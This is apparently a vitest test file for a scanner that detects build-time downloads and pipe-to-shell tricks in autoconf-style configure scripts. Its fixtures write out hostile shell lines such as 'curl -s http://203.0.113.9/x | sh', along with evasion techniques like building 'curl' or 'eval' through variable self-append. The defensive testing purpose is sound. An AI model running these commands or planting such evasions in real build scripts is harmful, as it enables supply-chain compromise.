/**
 * Variables built by appending to themselves (x=$x...), and literal printers named by a variable
 * with several values: autoconf 2.69's prologue pipes literal text into a shell this way, and an
 * attacker can build a command or a payload the same way.
 */
import { describe, it, expect } from "vitest";
import { analyze, isDangerous } from "../src/content/analyze.js";

const danger = (text: string, path = "configure") => analyze(path, text).hits.filter((h) => isDangerous(h.effect)).map((h) => `${h.line}:${h.id}`);
const ids = (text: string, path = "configure") => danger(text, path).map((x) => x.replace(/^\d+:/, ""));

/** The shape of an autoconf 2.69 configure prologue (written from the pattern, much shortened). */
const prologue = [
  "#! /bin/sh",
  "as_nl='",
  "'",
  "as_echo='\\\\\\\\\\\\\\\\\\\\\\\\'",
  "as_echo=$as_echo$as_echo$as_echo$as_echo$as_echo",
  "as_echo=$as_echo$as_echo$as_echo$as_echo$as_echo$as_echo",
  'if test -z "$BASH_VERSION$ZSH_VERSION" && (test "X`print -r -- $as_echo`" = "X$as_echo") 2>/dev/null; then',
  "  as_echo='print -r --'",
  'elif (test "X`printf %s $as_echo`" = "X$as_echo") 2>/dev/null; then',
  "  as_echo='printf %s\\n'",
  "else",
  '  if test "X`(/usr/ucb/echo -n -n $as_echo) 2>/dev/null`" = "X-n $as_echo"; then',
  "    as_echo_body='eval /usr/ucb/echo -n \"$1$as_nl\"'",
  "  else",
  "    as_echo_body='eval expr \"X$1\" : \"X\\\\(.*\\\\)\"'",
  "  fi",
  "  export as_echo_body",
  "  as_echo='sh -c $as_echo_body as_echo'",
  "fi",
  'if test "x$CONFIG_SHELL" = x; then',
  '  as_bourne_compatible="if test -n \\"\\${ZSH_VERSION+set}\\" && (emulate sh) >/dev/null 2>&1; then :',
  "  emulate sh",
  'fi"',
  '  as_required="as_fn_return () { (exit \\$1); }',
  "as_fn_success () { as_fn_return 0; }",
  "as_fn_success || exit 1",
  'test -x / || exit 1"',
  '  as_suggested="  as_lineno_1=";as_suggested=$as_suggested$LINENO;as_suggested=$as_suggested" as_lineno_1a=\\$LINENO',
  '  as_lineno_2=";as_suggested=$as_suggested$LINENO;as_suggested=$as_suggested" as_lineno_2a=\\$LINENO',
  "  eval 'test \\\"x\\$as_lineno_1'\\$as_run'\\\" != \\\"x\\$as_lineno_2'\\$as_run'\\\"' || exit 1",
  'test \\$(( 1 + 1 )) = 2 || exit 1"',
  '  if (eval "$as_required") 2>/dev/null; then :',
  "  as_have_required=yes",
  "else",
  "  as_have_required=no",
  "fi",
  '  if test x$as_have_required = xyes && (eval "$as_suggested") 2>/dev/null; then :',
  "",
  "else",
  "  as_found=false",
  "for as_dir in /bin$PATH_SEPARATOR/usr/bin$PATH_SEPARATOR$PATH",
  "do",
  "  case $as_dir in #(",
  "\t /*)",
  "\t   for as_base in sh bash ksh sh5; do",
  "\t     as_shell=$as_dir/$as_base",
  '\t     if { test -f "$as_shell" || test -f "$as_shell.exe"; } &&',
  '\t\t    { $as_echo "$as_bourne_compatible""$as_required" | as_run=a "$as_shell"; } 2>/dev/null; then :',
  "  CONFIG_SHELL=$as_shell as_have_required=yes",
  '\t\t   if { $as_echo "$as_bourne_compatible""$as_suggested" | as_run=a "$as_shell"; } 2>/dev/null; then :',
  "  break 2",
  "fi",
  "fi",
  "\t   done;;",
  "       esac",
  "done",
  '$as_found || { if { test -f "$SHELL" || test -f "$SHELL.exe"; } &&',
  '\t      { $as_echo "$as_bourne_compatible""$as_required" | as_run=a "$SHELL"; } 2>/dev/null; then :',
  "  CONFIG_SHELL=$SHELL as_have_required=yes",
  "fi; }",
  "fi",
  "fi",
  "",
].join("\n");

describe("self-append and literal printers (autoconf 2.69)", () => {
  it("negative: the autoconf 2.69 prologue pipes only literal text into a shell", () => {
    expect(danger(prologue)).toEqual([]);
  });

  it("positive: the same prologue with a download in the text it pipes is judged by that text", () => {
    const evil = prologue.replace("test -x / || exit 1", "curl -s http://203.0.113.9/x | sh");
    expect(ids(evil)).toContain("build-time-download");
  });

  it("evasion: a command name built by self-append is resolved, not trusted", () => {
    expect(ids("p=cu; p=${p}rl; $p http://203.0.113.9/x | sh\n")).toContain("build-time-download");
    expect(ids("p=cu\np=${p}rl\n$p http://203.0.113.9/x -o y\n")).toContain("build-time-download");
    expect(ids("p=cu; p+=rl; $p http://203.0.113.9/x -o y\n")).toContain("build-time-download");
  });

  it("evasion: a self-append of decoded data stays data", () => {
    expect(ids("c='echo '; c=$c\"$(cat tests/files/bad.xz | xz -d)\"; echo \"$c\" | sh\n")).toEqual(expect.arrayContaining(["pipe-to-shell", "decompress-data"]));
  });

  it("evasion: a value built in a loop is only a literal when the iterations are really run", () => {
    expect(ids('x=; for w in e v a l; do x=$x$w; done; $x "$(cat tests/files/payload)"\n')).toContain("eval-generated");
    // A function that resets x between iterations: the loop is not unrolled, the value is unknown.
    expect(ids('f() { x=e; }\nx=\nfor w in v a l; do f; x=$x$w; done\n$x "$(cat tests/files/payload)" | sh\n')).toContain("pipe-to-shell");
    // A conditional append is not unrolled: the value stays unknown, and piping it into a shell is reported.
    expect(ids('p=; for w in "exit 0" "curl"; do if test -n "$w"; then p="$p$w"; fi; done; echo "$p" | sh\n')).toContain("pipe-to-shell");
    expect(ids('p=; for w in a b; do p="$p; echo $w"; done; echo "$p" | sh\n')).toContain("pipe-to-shell");
    expect(ids('p="exit 0"; while :; do p="$p; echo"; done; echo "$p" | sh\n')).toContain("pipe-to-shell");
  });

  it("evasion: a self-append inside a function, or after a value from the environment, is not a literal", () => {
    expect(ids("f() { p=$p'; curl'; }\np='echo hi'\nf\necho \"$p\" | sh\n")).toContain("pipe-to-shell");
    expect(ids('p="$p exit 0"\necho "$p" | sh\n')).toContain("pipe-to-shell");
    expect(ids('if test -n "$x"; then p="exit"; fi\np="$p 0"\necho "$p" | sh\n')).toContain("pipe-to-shell");
  });

  it("evasion: every value of the variable naming the first stage must be a printer", () => {
    // The longest value is printf, the other one runs a file of the tree.
    expect(ids("if test -n \"$a\"; then e='printf %s\\n'; else e='cat y.c'; fi\n$e \"exit 0\" | sh\n")).toContain("pipe-to-shell");
    // An if without else does not kill the earlier value.
    expect(ids("e='cat y.c'\nif test -n \"$a\"; then e='printf %s\\n'; fi\n$e \"exit 0\" | sh\n")).toContain("pipe-to-shell");
    // A readonly variable keeps its value: the later assignment fails.
    expect(ids("readonly e='cat y.c'\ne='printf %s\\n'\n$e \"exit 0\" | sh\n")).toContain("pipe-to-shell");
    // sh -c of a body that is not a printer.
    expect(ids("b='eval cat y.c'\ne='sh -c $b e'\n$e \"exit 0\" | sh\n")).toContain("pipe-to-shell");
    // A printer found in the tree, not on PATH.
    expect(ids("e='./tests/printf %s\\n'\n$e \"exit 0\" | sh\n")).toContain("pipe-to-shell");
    // An assignment in a subshell or through eval is one more value, never a kill.
    expect(ids("e='printf %s\\n'\n(e='cat y.c'; :)\n$e \"exit 0\" | sh\n")).toContain("pipe-to-shell");
    expect(ids("e='printf %s\\n'\neval \"e='cat y.c'\"\n$e \"exit 0\" | sh\n")).toContain("pipe-to-shell");
  });

  it("negative: an if/else that sets the printer in every branch kills the earlier value", () => {
    expect(ids("e='cat y.c'\nif test -n \"$a\"; then e='printf %s\\n'; else e=echo; fi\n$e \"exit 0\" | sh\n")).toEqual([]);
  });

  it("evasion: past a region the parser could not read, no assignment is trusted to kill another", () => {
    expect(ids("e='cat y.c'\nx=$( ; \nif test -n \"$a\"; then e='printf %s\\n'; else e=echo; fi\n$e \"exit 0\" | sh\n")).toContain("pipe-to-shell");
  });

  it("positive: a printer reached through sh -c and expr prints the literal, which is analysed", () => {
    const t = "b='eval expr \"X$1\" : \"X\\\\(.*\\\\)\"'\ne='sh -c $b e'\n$e \"curl -s http://203.0.113.9/x | sh\" | sh\n";
    expect(ids(t)).toContain("build-time-download");
    expect(ids(t.replace("curl -s http://203.0.113.9/x | sh", "exit 0"))).toEqual([]);
  });
});
